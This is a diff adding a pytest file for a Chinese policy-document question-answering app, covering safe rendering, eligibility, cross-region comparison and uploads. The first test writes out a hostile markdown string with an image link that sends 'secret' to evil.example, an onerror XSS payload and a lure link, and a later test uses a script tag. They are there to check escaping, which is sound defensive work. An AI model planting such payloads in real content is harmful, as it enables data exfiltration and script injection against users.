@@ -1,0 +1,103 @@
+"""What the web page shows, without a browser: safe rendering, eligibility, comparison, uploads."""
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from rag import ui
+from rag.cite import Answer, Citation
+from rag.compare import NOT_STATED, compare_topic
+from rag.eligibility import measures_for, status_for, to_csv, to_markdown
+from rag.errors import RagError
+
+
+def test_document_text_cannot_become_a_link_image_or_html_in_the_chat():
+    hostile = "见![x](http://evil.example/?q=secret) <img src=x onerror=alert(1)> [点此](http://evil.example) [1]"
+    out = ui.safe_markdown(hostile)
+    assert not re.search(r"(?<!\\)[<>]", out) and not re.search(r"(?<!\\)\]\(", out)
+    assert not re.search(r"(?<!\\)!(?=\\?\[)", out)  # no image syntax left
+    assert out.endswith("[1]")
+
+
+def test_clause_view_escapes_html_and_highlights_the_quoted_sentence():
+    cite = Citation(1, "d", "某方案<script>", "某地", "一、 > 1.", "一、1", "<script>alert(1)</script>按至少70%的比例划归成果完成人。")
+    page = ui.clause_html(cite, "根据《某方案》一、1：“按至少70%的比例划归成果完成人。”[1]")
+    assert "<script>" not in page and "&lt;script&gt;" in page
+    assert "<mark>按至少70%的比例划归成果完成人</mark>" in page
+
+
+def test_not_covered_answer_is_marked_apart_from_an_answer():
+    related = [Citation(1, "d", "某方案", "某地", "一、", "一、", "文本")]
+    text = ui.answer_markdown(Answer("文件未涉及这一问题。", [], True, related))
+    assert text.startswith("**【文件未涉及】") and "Related clauses (not cited)" in text
+
+
+@pytest.mark.parametrize("sentence,status", [
+    ("对科技型中小企业给予贷款贴息。", "applies"),
+    ("符合条件的科技型中小企业可申请补助。", "may apply"),
+    ("鼓励高校设立技术转移机构，给予资金支持。", "does not apply"),
+    ("设立科技成果转化引导基金。", "may apply"),
+])
+def test_measure_status_for_a_tech_sme(sentence, status):
+    assert status_for(sentence, "科技型中小企业")[0] == status
+
+
+def test_meishan_tech_sme_measures_come_from_meishan_clauses_with_sources(corpus_docs):
+    from rag.chunking import ClauseNodeParser, token_counter
+
+    nodes = ClauseNodeParser().clause_nodes(corpus_docs["meishan_2017"], token_counter())
+    measures = measures_for(nodes, "眉山市", "科技型中小企业")
+    loans = [m for m in measures if "贷款贴息" in m.text]
+    assert loans and loans[0].status in ("applies", "may apply") and loans[0].label.startswith("《眉山市")
+    assert any(m.status == "does not apply" and "学分" in m.text for m in measures)
+    assert "| 状态 status |" in to_markdown(measures, "眉山市", "科技型中小企业")
+    assert to_csv(measures).splitlines()[0].startswith("status,category")
+    with pytest.raises(ValueError):
+        measures_for(nodes, "眉山市", "外星人")
+
+
+def test_compare_says_not_stated_rather_than_borrowing_another_region():
+    cite = Citation(1, "g", "甘肃方案", "甘肃省", "附件", "附件 序号19", "技术合同年交易额达到200亿元")
+
+    def ask(topic, region):
+        if region == "甘肃省":
+            return Answer("根据《甘肃方案》附件 序号19：“技术合同年交易额达到200亿元”[1]", [cite])
+        return Answer("根据《甘肃方案》：“技术合同年交易额达到200亿元”[1]", [cite])  # another region's clause
+
+    rows = compare_topic("技术合同交易额目标", ["甘肃省", "江西省"], ask)
+    assert rows[0].value == "达到200亿元" and rows[0].label.endswith("序号19")
+    assert rows[1].value == NOT_STATED
+
+
+def test_uploads_are_type_and_size_checked_and_kept_in_the_upload_folder(tmp_path, monkeypatch):
+    from rag.config import Settings
+
+    settings = Settings(data_dir=tmp_path / "data")
+    bad = tmp_path / "run.exe"
+    bad.write_bytes(b"MZ")
+    big = tmp_path / "big.txt"
+    big.write_text("长" * 100, encoding="utf-8")
+    monkeypatch.setattr(ui, "MAX_UPLOAD_BYTES", 50)
+    status = ui.ingest_upload([str(bad), str(big)], settings)
+    assert "run.exe" in status and "unsupported type" in status and "over" in status
+    assert not list((tmp_path / "data" / "uploads").iterdir())
+    with pytest.raises(RagError):
+        ui.ingest_upload([], settings)
+
+
+@pytest.mark.slow
+def test_uploaded_document_is_searchable_at_once(indexed_settings, tmp_path):
+    from rag.pipeline import answer
+
+    doc = tmp_path / "白石市促进科技成果转移转化实施办法.txt"
+    doc.write_text("白石市促进科技成果转移转化实施办法\n\n一、收益分配\n"
+                   "1.职务科技成果转化所得净收入，按不低于80%的比例奖励成果完成人及其团队。\n", encoding="utf-8")
+    settings = indexed_settings.with_overrides(data_dir=tmp_path / "data")
+    import shutil
+
+    shutil.copytree(indexed_settings.data_dir, settings.data_dir)
+    status = ui.ingest_upload([str(doc)], settings)
+    assert status.startswith("已导入") and (settings.data_dir / "uploads" / doc.name).is_file()
+    result = answer("白石市成果完成人的奖励比例是多少？", settings=settings)
+    assert "80%" in result.text and result.citations[0].region == "白石市"
